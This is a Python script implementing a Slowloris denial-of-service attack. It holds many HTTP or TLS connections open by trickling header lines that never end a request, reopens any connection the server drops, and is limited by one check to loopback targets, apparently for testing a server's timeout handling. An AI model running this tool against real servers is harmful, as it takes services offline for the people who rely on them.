#!/usr/bin/python3
"""Slowloris: hold N connections, each trickling an HTTP/1.1 request head one header line at a time and never ending it.

A connection the server closes is opened again, so the attack keeps N connections pressing until --duration ends.
Prints one line at the end: connections opened, closed by the server, bytes sent. Loopback targets only.

    slowloris.py --port 7000 --connections 1000 --interval 1 --duration 20 [--tls]
"""
import argparse
import asyncio
import ipaddress
import ssl
import sys
import time


def parse_args():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--connections", type=int, default=1000)
    p.add_argument("--interval", type=float, default=1.0, help="seconds between two trickled header lines")
    p.add_argument("--duration", type=float, default=20.0)
    p.add_argument("--tls", action="store_true", help="over TLS (certificate not checked)")
    p.add_argument("--ramp", type=float, default=2.0, help="seconds over which the connections are opened")
    args = p.parse_args()
    if not ipaddress.ip_address(args.host).is_loopback:
        p.error("loopback targets only")
    return args


class Stats:
    opened = 0
    closed_by_server = 0
    bytes_sent = 0
    refused = 0


async def attacker(index, args, stats, deadline, context):
    await asyncio.sleep(args.ramp * index / max(1, args.connections))
    while time.monotonic() < deadline:
        try:
            reader, writer = await asyncio.open_connection(args.host, args.port, ssl=context)
        except (OSError, ssl.SSLError):
            stats.refused += 1
            await asyncio.sleep(0.5)
            continue
        stats.opened += 1
        head = f"GET /plaintext?slow={index} HTTP/1.1\r\nHost: localhost\r\n".encode()
        try:
            writer.write(head)
            stats.bytes_sent += len(head)
            line = 0
            while time.monotonic() < deadline:
                # A read that returns means the server answered (408/400) or closed: the attack on this one is over.
                try:
                    data = await asyncio.wait_for(reader.read(4096), timeout=args.interval)
                    if not data:
                        stats.closed_by_server += 1
                        break
                    stats.closed_by_server += 1
                    break
                except asyncio.TimeoutError:
                    pass
                chunk = f"X-Slow-{line}: {'a' * 8}\r\n".encode()
                writer.write(chunk)
                await writer.drain()
                stats.bytes_sent += len(chunk)
                line += 1
        except (OSError, ssl.SSLError):
            stats.closed_by_server += 1
        finally:
            writer.close()


async def main():
    args = parse_args()
    context = None
    if args.tls:
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    stats = Stats()
    deadline = time.monotonic() + args.duration
    await asyncio.gather(*(attacker(i, args, stats, deadline, context) for i in range(args.connections)))
    print(f"slowloris: connections={args.connections} opened={stats.opened} closed-by-server={stats.closed_by_server} "
          f"refused={stats.refused} bytes={stats.bytes_sent}")


if __name__ == "__main__":
    try:
        asyncio.run(main())
    except KeyboardInterrupt:
        sys.exit(130)
